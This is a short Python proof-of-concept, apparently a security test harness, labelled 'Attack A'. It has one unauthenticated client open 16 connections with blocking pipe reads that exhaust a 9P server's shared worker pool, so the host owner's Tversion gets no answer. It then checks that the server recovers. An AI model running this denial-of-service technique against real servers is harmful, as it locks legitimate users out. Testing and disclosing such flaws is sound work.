#!/usr/bin/env python3
"""Attack A: one unauthenticated TCP client ("none", the plain listener)
takes every worker of the shared pool.

Each of its connections binds a fresh '#pipe' over /tmp in its own
namespace (allowed: every connection may change its own), opens data1 and
sends 4 Treads that sleep on the empty pipe (NINEP_RUNNING = 4 per
connection).  16 connections = 64 sleeping requests = NINEP_POOL_MAX.  Then
the host owner connects on the unix socket: its connection's start job (a
control job) and its Tversion need a worker, and none is ever free.

Usage: a_workers.py [luxsim] [nconns]
"""
import sys
import time

import common as cm
from common import TREAD, TVERSION, NOTAG, msg, s
import struct

srv = cm.server()
n = int(sys.argv[2]) if len(sys.argv) > 2 else 16
held = []
try:
    held, stuck = cm.sleep_in_workers(srv, n)
    time.sleep(1)
    print("attacker: %d connections, %d reads sent to sleep on pipes, %d connections waiting for "
          "their own share" % (n, 4 * (n - stuck), stuck))
    print("\n".join(l for l in cm.ninep(srv) if l.startswith(("total", "peer"))))
    # the victim: the host owner on the unix socket
    t0 = time.monotonic()
    v = cm.nt.Client.__new__(cm.nt.Client)
    import socket
    v.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    v.sock.connect(srv.path)
    v.dotl = True
    dt, got = cm.timed_rpc(v, TVERSION, struct.pack("<I", 8192) + s("9P2000.L"), NOTAG, 8)
    print("victim (host owner, unix socket) Tversion: %s" %
          ("no answer in 8 s" if dt is None else "answered in %.3f s" % dt))
    # an established victim too: connected before? measure a second, already-served one
    print("console still answers:", srv.shell("echo alive"))
    for c in held:
        c.close()
    v.sock.close()
    ok, lines = cm.wait_clean(srv, 15)
    print("after every client closed, counters clean:", ok)
    if not ok:
        print("\n".join(lines[-5:]))
    sys.exit(1 if dt is None else 0)
finally:
    rc, out, err = srv.stop()
    print("luxsim exit", rc)
